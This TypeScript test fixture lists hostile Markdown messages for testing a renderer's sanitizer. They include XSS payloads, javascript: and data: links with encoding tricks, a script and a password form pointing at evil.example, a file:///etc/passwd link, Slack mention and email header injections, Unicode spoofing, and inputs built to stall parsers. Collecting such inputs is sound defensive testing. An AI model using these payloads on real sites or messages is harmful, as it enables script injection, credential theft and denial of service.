import { tests as examples } from 'commonmark-spec';

/** The most that a message may have: that of a postmortem. */
export const LONGEST = 20_000;

const filled = (piece: string): string => piece.repeat(Math.ceil(LONGEST / piece.length)).slice(0, LONGEST);

/** HTML in every place where a reader of Markdown may take it for markup. */
const HTML = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'a <img src=x onerror=alert(1)> b',
  '<img\nsrc=x\nonerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<div onclick="alert(1)">\n\n*text*\n\n</div>',
  '<!-- comment --><b>bold</b>',
  '<!DOCTYPE html><?php echo 1 ?><![CDATA[<b>x</b>]]>',
  '</p></div></body></html><script>alert(1)</script>',
  '<style>*{display:none}</style>',
  '<base href=https://evil.example><meta http-equiv=refresh content=0>',
  '<a href="https://evil.example" onmouseover=alert(1)>link</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62; &#x3c;b&#x3e;',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\ncode\n```',
  '    <script>alert(1)</script>',
  '> <script>alert(1)</script>\n\n- <b onclick=alert(1)>x</b>\n\n# <h1 onclick=alert(1)>',
  '\\<script>alert(1)\\</script>',
  '*<b*>* **</strong><script>alert(1)</script>**',
  '<textarea><noscript><plaintext><xmp>',
  '<form action=https://evil.example><input name=password><button>',
  ']]> <![CDATA[ </title> --> {{constructor.constructor("alert(1)")()}}',
];

/** Links that must not lead anywhere, or must not get out of their attribute. */
const LINKS = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1)  )',
  '[x](<javascript:alert(1)>)',
  '[x](java\nscript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&colon;alert(1))',
  '[x](javascript&colon;alert(1)) [x](javascript&#58;alert(1)) [x](java&Tab;script:alert(1))',
  '[x](\\javascript:alert(1)) [x](javascript\\:alert(1))',
  '[x](\u0001javascript:alert(1)) [x](\u200bjavascript:alert(1)) [x](\ufeffjavascript:alert(1))',
  '[x](%6aavascript:alert(1)) [x](javascript%3Aalert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1)) [x](file:///etc/passwd) [x](blob:https://evil.example/1)',
  '[x](//evil.example) [x](/relative) [x](#fragment) [x](?query) [x](evil.example) [x]()',
  '[x](http:evil.example) [x](https:/evil.example) [x](http://) [x](https:\\\\evil.example)',
  '[x](view-source:https://evil.example) [x](intent://x#Intent;end) [x](ftp://evil.example) [x](tel:1)',
  '<javascript:alert(1)> <data:text/html,x> <vbscript:x> <ftp://evil.example> <x:y>',
  '[x][a]\n\n[a]: javascript:alert(1)',
  '[x][b] [b] [b][]\n\n[b]: <data:text/html,x> "title"',
  '[x](https://ok.example/"onmouseover="alert(1)) [y](<https://ok.example/ onmouseover=alert(1)>)',
  "[x](https://ok.example/'onmouseover='alert(1)) [y](https://ok.example/`x`)",
  '[x](https://ok.example "title" onclick="alert(1)") [x](https://ok.example "\\"onclick=alert(1)")',
  '[x](https://ok.example/<script>alert(1)</script>) https://ok.example/<script>alert(1)</script>',
  '[<img src=x onerror=alert(1)>](https://ok.example) [`</a><script>`](https://ok.example)',
  '![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg/onload=alert(1)>) ![x](https://ok.example/a.png)',
  '![x" onerror="alert(1)](https://ok.example/a.png) [![x](https://ok.example/a.png)](https://ok.example)',
  '[a [b](https://ok.example/b) c](https://ok.example/c) [![i](javascript:x)](https://ok.example)',
  'https://ok.example/"onclick="alert(1)" https://user:password@ok.example/ http://ok.example:99999/',
  'mailto:a@b.example?subject=x <a@b.example> [x](mailto:a@b.example) [x](mailto:a@b.example?body=%0d%0aBcc:c@d.example)',
  'https://ok.example/%0d%0aSet-Cookie:x https://ok.example/\u202egnp.exe [x](https://ok.example/\u2066a)',
];

/** What Slack, X, mail programs or a page could take for something of their own. */
const ELSEWHERE = [
  '<!channel> <!here> <!everyone> <@U123> <#C123> <!subteam^S1|team> <!date^1^{date}|x>',
  '[<!channel>](https://ok.example) [x|<!here>](https://ok.example/a|b) `<!channel>` *<@U123>*',
  '```\n<!channel>\n``` and ```<!here>``` and `a\n<@U123>`',
  '&lt;!channel&gt; &#60;!channel&#62; \\<!channel\\> <\\!channel>',
  '<https://evil.example|here> <mailto:a@b.example|mail> <https://evil.example|<!channel>>',
  '@channel @here @everyone @ada #general :warning: ~struck~ *bold* _italic_ `code`',
  'Subject: evil\r\nBcc: victim@example.com\r\n\r\nbody',
  '.\r\n.\r\nQUIT\r\nMAIL FROM:<x@y.example>',
  '--\nUnsubscribe:\nhttps://ok.example/unsubscribe',
  'From \u202eright to left\u202c and \u2066isolated\u2069 \u2067\u2068 &#x202e;reversed &#8294; `\u202ecode`',
  '[\u202egnp.elif](https://ok.example) **\u202ebold** ![\u202ealt](https://ok.example/a.png)',
  'zero\u200bwidth\u200c\u200d\u2060\ufeff \u00ad \u034f \u0000 \u0007 \u001b[31m \u2028 \u2029 \ud800 x',
  'עברית **מודגש** [קישור](https://ok.example) and English, العربية `رمز`',
  'a\u0301\u0301\u0301'.repeat(300),
];

/** Texts that are long to parse, as long as a message may be. */
const SLOW = [
  ...['>', '> ', '*', '**', '_', '*a ', '*a**b', '_a __b', '**x *y ', '[', '[a](', '[](', '[a][b]', '![', '(', ')'],
  ...['`', '\\`', '<', '<a ', '<!--', '<?', '&', '&#', '- ', '- a\n', '1. ', '# a\n', 'a\n=', '* * *\n', '~~~\n'],
  ...['[a]: b\n', '[a]:\n', '[a]: <b> "\n', 'http://', 'http://a.b ', 'http://a(b', '<http://a', 'mailto:a@', 'a@b.c '],
  ...['\n', '\t', ' ', '\\', '"', '|', ':', '[a](<b', '[a](b "', '![a](b)', '\u202e', '😀', '<!channel>', '    a\n\n'],
].map(filled);

const STAIRS = [
  Array.from({ length: 195 }, (_, depth) => `${' '.repeat(depth)}- a\n`).join(''),
  Array.from({ length: 198 }, (_, depth) => `${'>'.repeat(depth)}a\n`).join(''),
  `${'> '.repeat(5_000)}a\n${'a\n'.repeat(4_900)}`,
  Array.from({ length: 198 }, (_, length) => '`'.repeat(length + 1)).join(' '),
  `[a](${filled('(').slice(5)}`,
  `http://${filled('a.').slice(7)}`,
  `${'['.repeat(9_900)}a${']'.repeat(9_900)}`,
  `${'*'.repeat(9_900)}a${'*'.repeat(9_900)}`,
];

/** What the specification of CommonMark shows of HTML, of links and of images. */
const SPECIFIED = examples
  .filter(({ section }) => ['HTML blocks', 'Raw HTML', 'Autolinks', 'Images', 'Links'].includes(section))
  .map(({ markdown }) => markdown.replaceAll('→', '\t'));

/** The size of what nobody may send, and what no form may break at if it were read nevertheless. */
const HUGE = 100_000;
const hugeOf = (piece: string): string => piece.repeat(Math.ceil(HUGE / piece.length)).slice(0, HUGE);

/** 100 kB of nesting: more than any message may have. */
export const HUGE_MESSAGES: readonly string[] = [
  ...['> ', '>', '- ', '1. ', '[', '![', '*', '**a ', '[a](', '<b>', '`'].map(hugeOf),
  `${'['.repeat(HUGE / 2)}a${'](javascript:x)'.repeat(HUGE / 30)}`,
  `${'*'.repeat(HUGE / 2)}<script>alert(1)</script>${'*'.repeat(HUGE / 2)}`,
  Array.from({ length: 440 }, (_, depth) => `${' '.repeat(depth)}- <b onclick=alert(1)>\n`).join(''),
];

/** Messages that try to get something active through, or to keep a process busy. */
export const HOSTILE_MESSAGES: readonly string[] = [
  ...[...HTML, ...LINKS, ...ELSEWHERE, ...SPECIFIED, ...SLOW, ...STAIRS].map((text) => text.slice(0, LONGEST)),
];
